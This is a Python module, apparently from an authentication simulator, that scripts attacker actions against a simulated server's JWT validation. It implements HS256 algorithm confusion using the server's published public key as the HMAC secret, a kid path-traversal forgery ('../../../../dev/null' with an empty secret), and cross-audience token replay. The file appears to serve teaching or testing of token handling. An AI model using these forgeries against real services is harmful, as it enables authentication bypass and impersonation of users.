"""Attacks on how a server checks a JWT: algorithm confusion (HS256 signed with the
public key), `kid` injection, and a token minted for another service replayed at this
one. Whether each works is decided by the server's own checks, never here.
"""

from __future__ import annotations

import json
from collections.abc import Mapping
from typing import Any

from cryptography.hazmat.primitives import serialization
from jwt.algorithms import ECAlgorithm, RSAAlgorithm

from authflow.simulator.actions.attacker_network import offsite_exchange, send_from_machine
from authflow.simulator.actions.attacks_from_machine import (
    _credential_to_work_on,
    _replay_with,
    claims_now,
)
from authflow.simulator.actions.spec import ActionSpec, fixed
from authflow.simulator.attacker.forgery import b64url_decode, hs256_sign, json_segment
from authflow.simulator.browser.page_script import TOKEN_KEY, PageScript
from authflow.simulator.server.keyring import JWKS_PATH
from authflow.simulator.server.server import TOKEN_PATH
from authflow.simulator.world.engine import World


def _header_of(token: str) -> dict[str, Any]:
    try:
        header = json.loads(b64url_decode(token.split(".")[0]))
    except (ValueError, IndexError):
        return {}
    return header if isinstance(header, dict) else {}


def _pem_of(jwk: Mapping[str, Any]) -> str | None:
    """The public key a JWK describes, as PEM text (what a server's config file holds)."""
    try:
        text = json.dumps(dict(jwk))
        if jwk.get("kty") == "RSA":
            key: Any = RSAAlgorithm.from_jwk(text)
        elif jwk.get("kty") == "EC":
            key = ECAlgorithm.from_jwk(text)
        else:
            return None
        pem: bytes = key.public_bytes(
            serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
        )
    except (ValueError, TypeError, KeyError):
        return None
    return pem.decode("ascii")


def _nothing_sent(world: World, attack: str, label: str, explain: str, attempted: str) -> None:
    world.attacker.attack_event(
        attack,
        world.servers[0].name,
        label,
        explain,
        attempted=attempted,
        stolen={},
        success=False,
        status=None,
        reasons=[],
        reason="",
    )


def alg_confusion(world: World, page: PageScript, args: Mapping[str, Any]) -> None:
    user, role = str(args["user"]), str(args["role"])
    sample, source = _credential_to_work_on(world)
    kid = _header_of(sample.get(TOKEN_KEY, "")).get("kid")
    answer = send_from_machine(
        world,
        "GET",
        JWKS_PATH,
        (),
        None,
        why=f"The attacker downloads {JWKS_PATH}: public keys are public by design.",
    )
    body = answer.body if answer.status == 200 and isinstance(answer.body, dict) else {}
    jwks = [k for k in body.get("keys", []) if isinstance(k, dict)]
    jwk = next((k for k in jwks if k.get("kid") == kid), jwks[0] if jwks else None)
    pem = None if jwk is None else _pem_of(jwk)
    attempted = (
        "turn the server's published public key into PEM text and sign an HS256 token "
        f"with that text as the HMAC secret, claiming sub={user}, role={role}"
    )
    if jwk is None or pem is None:
        _nothing_sent(
            world,
            "alg_confusion",
            "Algorithm confusion → never sent",
            "The server publishes no public key (an HS256 secret is never published, and "
            "session mode signs no tokens), so there is nothing to sign with.",
            attempted,
        )
        return
    used_kid = str(jwk.get("kid", ""))
    header = json_segment({"alg": "HS256", "typ": "JWT", "kid": used_kid})
    payload = json_segment(claims_now(world, user, role))
    # The PEM text exactly as `cryptography` writes it, which is how the server's key
    # file reads; real attackers also try it without the final newline.
    token = f"{header}.{payload}.{hs256_sign(f'{header}.{payload}', pem)}"
    _replay_with(
        world,
        "alg_confusion",
        {TOKEN_KEY: token},
        "GET",
        "/api/profile",
        attempted=f"took {source} token for its kid, then {attempted}",
        why=f"The attacker signs a token with header alg HS256 and kid {used_kid}, using "
        f"the {jwk.get('kty')} public key's PEM text as the HMAC secret, and sends it.",
        forged={TOKEN_KEY: token},
        kid=used_kid,
        public_key=pem,
    )


def forge_kid(world: World, page: PageScript, args: Mapping[str, Any]) -> None:
    kid, user, role = str(args["kid"]), str(args["user"]), str(args["role"])
    header = json_segment({"alg": "HS256", "typ": "JWT", "kid": kid})
    payload = json_segment(claims_now(world, user, role))
    # Signed with an empty secret: what a server that reads its key from the file the
    # kid names would get from /dev/null.
    token = f"{header}.{payload}.{hs256_sign(f'{header}.{payload}', '')}"
    _replay_with(
        world,
        "forge_kid",
        {TOKEN_KEY: token},
        "GET",
        "/api/profile",
        attempted=f"forge an HS256 token whose kid is {kid!r}, signed with an empty secret, "
        f"claiming sub={user}, role={role}",
        why=f"The attacker sends a token whose header kid is {kid!r}, hoping the server "
        "fetches its key from wherever the kid points.",
        forged={TOKEN_KEY: token},
        kid=kid,
    )


def audience_replay(world: World, page: PageScript, args: Mapping[str, Any]) -> None:
    audience = str(args["audience"])
    answer = page.fetch(
        "POST",
        TOKEN_PATH,
        {"audience": audience},
        why=f"The victim signs in to {audience}, which trusts the app's server to sign in "
        f"its users: the page asks {TOKEN_PATH} for a token meant for {audience}.",
    )
    token = None
    if answer is not None and answer.status == 200 and isinstance(answer.body, dict):
        token = answer.body.get(TOKEN_KEY)
    attempted = f"replay at the app's API the token the victim handed to {audience}"
    if not isinstance(token, str):
        _nothing_sent(
            world,
            "audience_replay",
            "Token for another service → never sent",
            "The server handed out no token for the other service, so there is nothing to replay.",
            attempted,
        )
        return
    offsite_exchange(
        world,
        "POST",
        audience.rstrip("/") + "/sso",
        {TOKEN_KEY: token},
        200,
        why=f"The page hands the token to {audience}, whose operator is the attacker.",
        answer=f"The service at {audience} keeps the token: it now holds a valid token for "
        "the victim.",
    )
    world.attacker.take({"other_service_token": token})
    _replay_with(
        world,
        "audience_replay",
        {TOKEN_KEY: token},
        "GET",
        "/api/profile",
        attempted=attempted,
        why=f"The attacker sends the token made for {audience} to the app's API, as if it "
        "had been issued for the app.",
        stolen={"other_service_token": token},
        audience=audience,
    )


SPECS: tuple[ActionSpec, ...] = (
    ActionSpec(
        "alg_confusion",
        {"user": (str, "carol"), "role": (str, "admin")},
        "The attacker signs an HS256 token with the server's published public key (PEM "
        "text) as the HMAC secret.",
        alg_confusion,
        fixed("Attacker signs HS256 with the public key (alg confusion)"),
        modes=("jwt", "hybrid"),
        lane="attacker",
    ),
    ActionSpec(
        "forge_kid",
        {"kid": (str, "../../../../dev/null"), "user": (str, "carol"), "role": (str, "admin")},
        "The attacker forges a token whose kid points outside the server's key set.",
        forge_kid,
        lambda a: f"Attacker forges a token with kid {a['kid']!r}",
        modes=("jwt", "hybrid"),
        lane="attacker",
    ),
    ActionSpec(
        "audience_replay",
        {"audience": (str, "https://reports.example")},
        "The victim gets a token for another service from the same server; that "
        "service's operator replays it at the app's API.",
        audience_replay,
        lambda a: f"A token minted for {a['audience']} is replayed at the app",
        modes=("jwt", "hybrid"),
        lane="attacker",
    ),
)
